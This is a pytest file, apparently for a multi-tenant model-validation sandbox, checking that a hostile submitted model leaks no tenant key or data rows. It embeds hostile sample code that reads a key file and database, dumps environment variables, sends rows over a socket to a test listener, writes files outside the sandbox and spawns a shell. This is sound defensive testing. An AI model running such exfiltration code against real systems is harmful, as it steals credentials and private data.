"""A hostile SME's model file, submitted as an SME submits it, leaks nothing.

End to end through `testbench validate --tenant` (and `submit --wait` on a real Ray head):
the model file tries every channel out (the tenant key, the lake file, the network, the
disk, a subprocess, printed and raised rows, rows kept in the fitted model). The test
asserts that no key byte and no cohort row reaches stdout, stderr, MLflow (params, tags,
metrics, artifacts) or the submit logs; that the lake, the key and the evidence store are
as they were; and that the operator's job log inside the lake holds what the model said.
"""

from __future__ import annotations

import base64
import hashlib
import json
import socket
import sys
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest
from mlflow.tracking import MlflowClient

from testbench.config import Settings
from testkit.sandbox import require_sandbox
from testkit.specs import MODEL, write_contact_spec


@pytest.fixture(autouse=True)
def _sandbox() -> None:
    require_sandbox()


MARK = "LEAKED-ROWS:"  # the model prefixes every row it tries to leak with this

# Everything a hostile model may try, at import and in fit; it still returns a model that
# works, so the run completes and its evidence can be searched. {home}, {outside} and
# {port} are filled in by the test (an attacker may well know the paths).
SNEAKY = """
import os, socket, subprocess
import numpy as np
from pathlib import Path
from sklearn.linear_model import LogisticRegression

HOME = {home!r}
found = []
for path in [Path(HOME) / "keys" / "acme.key", Path(HOME) / "tenants" / "acme" / "lake.duckdb"]:
    try:
        found.append(path.read_bytes()[:64].hex())
    except Exception as exc:
        found.append(type(exc).__name__)
found.append(repr({{k: v for k, v in os.environ.items() if k.startswith(("TESTBENCH", "MLFLOW"))}}))
print("import saw:", found)


class Memorising(LogisticRegression):
    def fit(self, X, y, sample_weight=None):
        rows = repr(np.asarray(X)[:20].tolist())  # the rows as the model's last step sees them
        print({mark!r} + rows)
        try:
            socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(rows.encode())
        except Exception as exc:
            print("network:", type(exc).__name__)
        try:
            Path({outside!r}).write_text(rows)
        except Exception as exc:
            print("disk:", type(exc).__name__)
        try:
            subprocess.run(["sh", "-c", "echo spawned"], check=True)
        except Exception as exc:
            print("subprocess:", type(exc).__name__)
        self.rows_ = np.asarray(X)  # rows kept in a fitted attribute
        return super().fit(X, y, sample_weight)
"""

RAISER = """
import numpy as np
from sklearn.linear_model import LogisticRegression


class Raiser(LogisticRegression):
    def fit(self, X, y, sample_weight=None):
        raise ValueError({mark!r} + repr(np.asarray(X)[:5].tolist()))
"""


def _model(body: str, **fill: object) -> str:
    estimator = "Memorising" if "Memorising" in body else "Raiser"
    return MODEL.replace("LogisticRegression(max_iter=500)", f"{estimator}(max_iter=500)") + (
        body.format(mark=MARK, **fill)
    )


@pytest.fixture
def listener() -> Iterator[tuple[int, list[bytes]]]:
    """A TCP listener on 127.0.0.1 that records whatever connects to it."""
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    server.settimeout(0.5)
    received: list[bytes] = []
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except TimeoutError:
                continue
            received.append(conn.recv(1 << 16) or b"(connected)")
            conn.close()

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield server.getsockname()[1], received
    stop.set()
    thread.join(timeout=5)
    server.close()


def _secrets(home: Path) -> list[str]:
    """Spellings of the tenant key that must never appear outside the lake."""
    key = (home / "keys" / "acme.key").read_bytes().strip()
    return [key.decode(errors="replace"), key.hex(), base64.b64encode(key).decode()]


def _digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def _mlflow_text(home: Path, run_id: str) -> str:
    """Everything MLflow holds for a run: params, tags, metrics and every artifact's bytes."""
    client = MlflowClient(f"sqlite:///{home / 'mlflow.db'}")
    run = client.get_run(run_id)
    parts = [repr(run.data.params), repr(run.data.tags), repr(run.data.metrics)]
    pending = [""]
    while pending:
        for item in client.list_artifacts(run_id, pending.pop() or None):
            if item.is_dir:
                pending.append(item.path)
            else:
                local = client.download_artifacts(run_id, item.path)
                parts.append(Path(local).read_bytes().decode(errors="replace"))
    return "\n".join(parts)


def _runs(client: MlflowClient) -> list:
    return [r for e in client.search_experiments() for r in client.search_runs([e.experiment_id])]


def _assert_clean(text: str, home: Path) -> None:
    assert MARK not in text
    for secret in _secrets(home):
        assert secret not in text


def test_a_hostile_model_reaches_nothing_and_its_rows_stay_in_the_lake(
    story_home, cli, listener, tmp_path: Path
) -> None:
    home, _ = story_home
    port, received = listener
    outside = tmp_path / "stolen.csv"
    spec = write_contact_spec(
        tmp_path / "spec",
        folds=2,
        bootstrap=20,
        model=_model(SNEAKY, home=str(home), outside=str(outside), port=port),
    )
    lake, key = home / "tenants" / "acme" / "lake.duckdb", home / "keys" / "acme.key"
    before = (_digest(lake), _digest(key))

    result = cli("validate", str(spec), "--tenant", "acme", "--json", home=home)

    run_id = json.loads(result.stdout)["run_id"]
    _assert_clean(result.stdout + result.stderr, home)
    _assert_clean(_mlflow_text(home, run_id), home)
    assert received == []  # nothing connected to the listener
    assert not outside.exists()  # nothing written outside the sandbox
    assert (_digest(lake), _digest(key)) == before  # the lake and the key are untouched
    evidence = json.loads(result.stdout)
    assert evidence["model"]["released"] is False  # a class of its own, rows kept: refused
    assert evidence["model"]["estimator"] == "Pipeline(custom)"  # its class name is the SME's
    log = (home / "tenants" / "acme" / "jobs" / f"{run_id}.log").read_text()
    assert MARK in log  # the operator's job log, inside the lake, holds what the model said
    assert "network: " in log and "disk: " in log and "subprocess: PermissionError" in log
    assert "FileNotFoundError" in log  # the key and the lake file do not exist in the sandbox
    for secret in _secrets(home):
        assert secret not in log  # not even the operator's log holds the key: it never got it


def test_an_exception_with_rows_in_its_message_reaches_the_requester_as_type_and_line(
    story_home, cli, tmp_path: Path
) -> None:
    home, _ = story_home
    spec = write_contact_spec(tmp_path / "spec", folds=2, bootstrap=20, model=_model(RAISER))
    client = MlflowClient(f"sqlite:///{home / 'mlflow.db'}")
    known = {
        r.info.run_id
        for e in client.search_experiments()
        for r in client.search_runs([e.experiment_id])
    }

    result = cli("validate", str(spec), "--tenant", "acme", home=home, check=False)

    assert result.returncode != 0
    _assert_clean(result.stdout + result.stderr, home)
    (error,) = [line for line in result.stderr.splitlines() if line.startswith("error: ")]
    assert "ValueError" in error and "model.py line" in error, error
    (failed,) = [run for run in _runs(client) if run.info.run_id not in known]
    assert failed.info.status == "FAILED"
    _assert_clean(_mlflow_text(home, failed.info.run_id), home)
    log = (home / "tenants" / "acme" / "jobs" / f"{failed.info.run_id}.log").read_text()
    assert MARK in log  # the message is the operator's to read, inside the lake


@pytest.mark.ray
def test_submit_wait_relays_nothing_the_model_said(story_home, ray_head: str, tmp_path: Path):
    from testbench.jobs.submit import follow, submit_validation

    home, _ = story_home
    settings = Settings(home=home, job_python=sys.executable)
    spec = write_contact_spec(tmp_path / "spec", folds=2, bootstrap=20, model=_model(RAISER))
    job_id = submit_validation(settings, ray_head, spec, "acme", requester="sme-dev")
    lines: list[str] = []
    status = follow(ray_head, job_id, lines.append, poll_s=1.0, timeout_s=400)
    logs = "".join(lines)
    assert status == "FAILED"
    assert "ValueError" in logs and "model.py line" in logs, logs[-2000:]
    _assert_clean(logs, home)
